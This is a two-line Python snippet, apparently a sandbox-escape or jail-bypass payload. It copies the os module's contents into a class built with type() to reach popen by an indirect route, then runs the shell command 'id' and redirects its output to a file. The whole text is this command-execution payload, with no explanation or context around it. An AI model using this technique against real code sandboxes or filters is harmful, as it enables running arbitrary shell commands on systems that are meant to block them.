import os
type("T", (), dict(os.__dict__)).popen("id>pf").read()
